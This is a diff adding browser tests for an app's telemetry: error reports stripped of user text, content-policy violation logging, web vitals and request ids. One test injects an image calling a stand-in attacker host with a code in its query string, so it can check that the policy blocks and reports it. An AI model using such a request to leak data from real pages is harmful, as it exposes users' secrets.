@@ -1,0 +1,105 @@
+import { expect, test } from "vitest";
+import { journey } from "../../../support/journey.ts";
+
+const { open, audit } = journey();
+
+const reports = async (type: string) =>
+  (await audit())
+    .filter(({ eventType }) => eventType === type)
+    .map(({ eventDetails }) => JSON.parse(eventDetails) as Readonly<Record<string, unknown>>);
+
+/** Runs a script of the page that fails outside of React. */
+const failTwice = () => {
+  const typed = "margaret@hartwell.example";
+  for (let times = 0; times < 2; times += 1) {
+    setTimeout(() => {
+      throw new RangeError(typed);
+    });
+  }
+  void Promise.reject(new TypeError(typed));
+};
+
+test("OPS-08 uncaught errors reach the event log once, without text", async () => {
+  const page = await open("/support", { as: "client-uk" });
+  await page.getByRole("heading", { level: 1 }).waitFor();
+  page.forgiveComplaints();
+  await page.evaluate(failTwice);
+  await expect.poll(() => reports("BrowserError")).toHaveLength(2);
+  const sent = await reports("BrowserError");
+  expect(sent.map(({ name }) => name).toSorted()).toEqual(["RangeError", "TypeError"]);
+  expect(sent[0]).toMatchObject({ page: "/support", role: "client" });
+  expect(sent[0]?.["build"]).toMatch(/^[\w-]{8}$/);
+  expect(JSON.stringify(sent)).not.toContain("margaret");
+});
+
+test("OPS-08 a violation of the content policy reaches the event log", async () => {
+  const page = await open("/login");
+  page.forgiveComplaints();
+  await page.evaluate(() => {
+    const image = document.createElement("img");
+    image.src = "https://evil.example/x.png?code=123456";
+    image.alt = "";
+    document.body.append(image);
+  });
+  await expect.poll(() => reports("PolicyViolation")).toHaveLength(1);
+  expect((await reports("PolicyViolation"))[0]).toMatchObject({
+    directive: "img-src",
+    blocked: "https://evil.example/",
+    page: "/login",
+    role: "nobody",
+  });
+});
+
+test("OPS-08 a sampled page sends its vitals when it is hidden", async () => {
+  const config = { vitalsSampleRate: 1 };
+  const page = await open("/login", { config });
+  await page.getByRole("heading", { level: 1 }).click();
+  await expect
+    .poll(() => page.evaluate(() => performance.getEntriesByType("paint").length))
+    .toBeGreaterThan(0);
+  // The code is loaded when the page is idle.
+  await expect
+    .poll(() =>
+      page.evaluate(() =>
+        performance.getEntriesByType("resource").some(({ name }) => /watch-browser/.test(name)),
+      ),
+    )
+    .toBe(true);
+  await page.evaluate(() => {
+    Object.defineProperty(document, "visibilityState", { value: "hidden", configurable: true });
+    Object.defineProperty(document, "hidden", { value: true, configurable: true });
+    document.dispatchEvent(new Event("visibilitychange", { bubbles: true }));
+  });
+  await expect.poll(() => reports("WebVitals")).toHaveLength(1);
+  expect((await reports("WebVitals"))[0]).toMatchObject({
+    page: "/login",
+    LCP: expect.any(Number),
+  });
+});
+
+test("OPS-08 reports can be switched off", async () => {
+  const page = await open("/login", { config: { reportErrors: false } });
+  page.forgiveComplaints();
+  const before = (await reports("BrowserError")).length;
+  await page.evaluate(failTwice);
+  await page.getByRole("link", { name: /forgot/i }).click();
+  await page.getByRole("heading", { level: 1, name: /password/i }).waitFor();
+  expect(await reports("BrowserError")).toHaveLength(before);
+});
+
+test("OPS-08 a failed block shows the id of its request for support", async () => {
+  const ids: (string | undefined)[] = [];
+  const page = await open("/support", {
+    as: "client-uk",
+    fault: "whatsNew=500",
+    expectFailures: true,
+    before: async (started) => {
+      started.on("response", (response) => {
+        if (response.status() === 500) ids.push(response.headers()["x-request-id"]);
+      });
+    },
+  });
+  const reference = page.getByText(/^Reference for support: [\da-f]{8}$/);
+  const text = await reference.first().textContent();
+  expect(ids.map((id) => `Reference for support: ${id?.slice(0, 8)}`)).toContain(text);
+});
